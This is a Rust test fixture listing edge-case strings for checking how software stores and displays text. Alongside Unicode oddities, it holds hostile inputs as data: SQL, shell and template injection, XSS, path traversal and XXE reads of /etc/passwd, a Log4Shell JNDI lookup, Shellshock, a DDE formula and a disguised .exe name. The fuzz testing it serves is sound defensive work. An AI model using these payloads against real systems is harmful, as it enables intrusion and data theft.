//! Texts that break careless software, for tests of all that keeps or shows text.

/// Scripts, directions, invisible and combined characters, and what other software takes for code. Each fits a title.
pub const LITERALS: [&str; 153] = [
    "",
    " ",
    "  spaces at both ends  ",
    "\t\ttabs\t",
    "\r\n",
    "line\nfeed\r\ncarriage\rreturn\n",
    "\u{b}\u{c}vertical tab and form feed",
    "\u{1}\u{8}\u{1b}[31mred\u{1b}[0m\u{7f}",
    "\u{85}\u{2028}line and paragraph\u{2029}separators",
    "\u{a0}no-break\u{202f}spaces\u{3000}",
    "\u{feff}byte order mark\u{feff}",
    "\u{fffe}\u{ffff}\u{10ffff}\u{fdd0}",
    "\u{fffd}",
    "\u{e000}\u{f8ff}\u{f0000} private use",
    "zero\u{200b}width\u{200c}and\u{200d}joiners\u{2060}",
    "soft\u{ad}hyphen",
    "\u{202e}right to left override\u{202c}",
    "\u{2066}isolate\u{2069} \u{200e}marks\u{200f}",
    "مرحبا بالعالم",
    "שלום, עולם 123",
    "English and עברית and English",
    "你好，世界",
    "こんにちは世界 ｶﾀｶﾅ",
    "안녕하세요 \u{1112}\u{1161}\u{11ab}",
    "สวัสดีชาวโลก",
    "नमस्ते दुनिया क्षत्रिय",
    "Привет, мир",
    "Γειά σου Κόσμε ΐ",
    "İstanbul ıI ß ẞ ŉ ǰ ſ",
    "ﬁ ﬀ ﷽ ㎏ ½",
    "e\u{301} é",
    "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}a\u{334}\u{335}\u{31b}l\u{322}\u{347}g\u{35f}o\u{489}",
    "\u{301}starts with a combining mark",
    "👍",
    "👍🏽👩🏿‍🚀",
    "👨‍👩‍👧‍👦 🏳️‍🌈 🏴‍☠️",
    "🇩🇪🇯🇵🇺",
    "❤️ ❤︎ #️⃣",
    "𝕳𝖊𝖑𝖑𝖔 𝟘𝟙 𐍈 𓀀 𠜎",
    "Ⓐⓑ ｆｕｌｌｗｉｄｔｈ",
    "' OR '1'='1",
    "'; DROP TABLE messages; --",
    "\"; DELETE FROM users WHERE \"a\"=\"a",
    "Robert'); -- %s %d %n ?1 $1 :name @p",
    "100% _wild_ \\_card\\%",
    "\\",
    "\\\\ \\n \\u0000 \\x00",
    "\"double\" 'single' `back` «guillemets»",
    "<script>alert(1)</script>",
    "<img src=x onerror=\"alert('x')\">&lt;&amp;&#0;",
    "</textarea><!-- --><![CDATA[ ]]>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "$(id) `id` | id ; id && id > /dev/null",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\cmd.exe",
    "file:///etc/passwd",
    "=cmd|' /C calc'!A0",
    "{\"json\": [\"in\", \"text\"]}",
    "null",
    "undefined",
    "NaN",
    "true",
    "-0",
    "1e400",
    "0x7fffffff",
    "%00%20%2e",
    "data: x\n\nevent: y\n\n",
    "HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n",
    "${jndi:ldap://example.org/a}",
    "\u{feff}{\"title\": 1}",
    "\u{200b}",
    "\u{2028}",
    "\u{2029}",
    "\u{85}",
    "\n",
    "\r",
    "\n\n\n  \n",
    "trailing newline\n",
    "\u{61c}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}",
    "user\u{202e}gpj.exe",
    "\u{202e}\u{202e}\u{202e}unbalanced",
    "العربية 123 english ١٢٣",
    "فارسی‌نیم‌فاصله",
    "ಠ_ಠ ༼ つ ◕_◕ ༽つ",
    "ꙮ 𒀱 ﷽𒐫",
    "田中さんにあげて下さい",
    "𠜎𠜱𠝹𠱓𠱸𠲖𠳏",
    "Ω≈ç√∫˜µ≤≥÷",
    "¡™£¢∞§¶•ªº–≠",
    "ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏ",
    "⁰⁴⁵₀₁₂ ½⅓⅔ Ⅷ ㈱",
    "ABC ＡＢＣ abc ａｂｃ",
    "ﾊﾝｶｸ ハンカク ﾞﾟ",
    "각 \u{1100}\u{1161}\u{11a8} 힣 \u{1100}\u{1100}\u{11a8}",
    "\u{1f1e6}\u{1f1e6}\u{1f1e6}\u{1f1e6}\u{1f1e6}",
    "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "👩🏾‍❤️‍💋‍👨🏻 🧑🏿‍🤝‍🧑🏼",
    "\u{200d}\u{200d}\u{200d}",
    "\u{fe0f}\u{fe0e}\u{e0100}",
    "\u{1d173}\u{1d17a}\u{fff9}x\u{fffa}y\u{fffb}",
    "\u{034f}\u{17b4}\u{180e}\u{2061}\u{3164}",
    "ß SS ẞ ſ K \u{212a} Å \u{212b}",
    "' OR 1=1 -- -",
    "1; SELECT pg_sleep(10)",
    "$$body$$ $tag$ $1 ::text",
    "E'\\x41' U&'\\0041' x'41'",
    "\\xDEADBEEF",
    "\\N \\. \\copy",
    "a|b||c /* comment */ -- end",
    "NULL",
    "None",
    "nil",
    "false",
    "[object Object]",
    "Infinity",
    "-Infinity",
    "0.1e-999",
    "9007199254740993",
    "18446744073709551616",
    "0b1 0o7 1_000 ٣",
    "{\"a\":{\"b\":[1,2,{\"c\":null}]}}",
    "{{{{{{{{{{",
    "]]]]]]]]]]",
    "\"",
    "\"\"\"",
    "'''",
    "\\\"",
    "\\u0000",
    "\\ud800",
    "%s%s%s%n%p%x %@ {0} {} {:?}",
    "%0d%0aSet-Cookie:%20a=b",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "&#x0; &#xD800; &nbsp; &amp;amp;",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    "```\n# not a heading\n```",
    "[x](javascript:alert(1)) ![y](http://example.org/?q=z)",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "/dev/null; cat /etc/passwd",
    "\u{1b}]0;title\u{7} \u{9b}31m",
    "CON PRN AUX NUL COM1",
    "() { :; }; echo vulnerable",
    "__proto__",
    "constructor",
    "$where",
    "key.with.dots",
    "key/with~slashes~0~1",
    "a\tb\tc,d;e\"f",
    "Ａ\u{300}\u{301}\u{302}",
    "i̇ İ ı I",
    "ǆ ǅ Ǆ ŉ ΐ ﬃ",
    "😀😃😄😁😆😅😂🤣",
];

/// Pairs of the same text, composed and decomposed, which must not become one another.
const PAIRS: [[&str; 2]; 12] = [
    ["\u{e9}", "e\u{301}"],
    ["\u{fc}", "u\u{308}"],
    ["\u{c5}", "A\u{30a}"],
    ["\u{212b}", "\u{c5}"],
    ["\u{f1}", "n\u{303}"],
    ["\u{1ec7}", "e\u{323}\u{302}"],
    ["\u{d55c}", "\u{1112}\u{1161}\u{11ab}"],
    ["\u{304c}", "\u{304b}\u{3099}"],
    ["\u{2126}", "\u{3a9}"],
    ["\u{fb01}", "fi"],
    ["\u{f900}", "\u{8c48}"],
    ["\u{1e69}", "s\u{307}\u{323}"],
];

/// What stands at a cut: of one, two, three and four bytes, and what is one sign of several characters.
const AT_A_CUT: [&str; 6] = ["x", "é", "漢", "👍", "e\u{301}", "👨‍👩‍👧‍👦"];

/// Where texts are cut or end: a derived title, a summary, a title.
const CUTS: [usize; 3] = [60, 100, 255];

/// Each of [`LITERALS`] and many more, of which not all fit a title. U+0000 is in none of them.
pub fn corpus() -> Vec<String> {
    let mut texts: Vec<String> = LITERALS.map(String::from).into();
    texts.extend(PAIRS.as_flattened().iter().map(|text| format!("pair {text} {text}")));
    texts.extend(controls_and_spaces().map(|one| format!("{one}one {one}{one} end{one}")));
    texts.extend(no_characters().map(|one| format!("no character {one}")));
    for cut in CUTS {
        for sign in AT_A_CUT {
            for length in [cut - 1, cut, cut + 1] {
                texts.push(sign.chars().cycle().take(length).collect());
                texts.push(format!("{}{sign}", "x".repeat(length - 1)));
                texts.push(format!("{}{sign}", "word ".repeat(length / 5)));
            }
        }
    }
    texts.sort();
    texts.dedup();
    texts
}

/// The control characters, and all that Unicode calls white space or a mark of direction.
fn controls_and_spaces() -> impl Iterator<Item = char> {
    let directions = ['\u{61c}', '\u{200e}', '\u{200f}'].into_iter().chain('\u{202a}'..='\u{202e}');
    let directions = directions.chain('\u{2066}'..='\u{2069}');
    let spaces = ('\u{a0}'..='\u{3000}').filter(|character| character.is_whitespace());
    ('\u{1}'..='\u{20}').chain('\u{7f}'..='\u{9f}').chain(spaces).chain(directions)
}

/// The code points that Unicode keeps free of characters for ever, and the ends of its private use.
fn no_characters() -> impl Iterator<Item = char> {
    let ends = (0..=16_u32).flat_map(|plane| [plane * 0x1_0000 + 0xfffe, plane * 0x1_0000 + 0xffff]);
    let ends = ends.filter_map(char::from_u32);
    let private = ['\u{e000}', '\u{f8ff}', '\u{f0000}', '\u{ffffd}', '\u{100000}', '\u{10fffd}'];
    ('\u{fdd0}'..='\u{fdef}').chain(ends).chain(private)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_more_than_300_texts_without_a_nul_and_the_literal_ones_fit_a_title() {
        let texts = corpus();
        assert!(texts.len() > 300, "{}", texts.len());
        assert!(texts.iter().all(|text| !text.contains('\0')));
        assert!(LITERALS.iter().all(|text| text.chars().count() <= 255));
    }
}
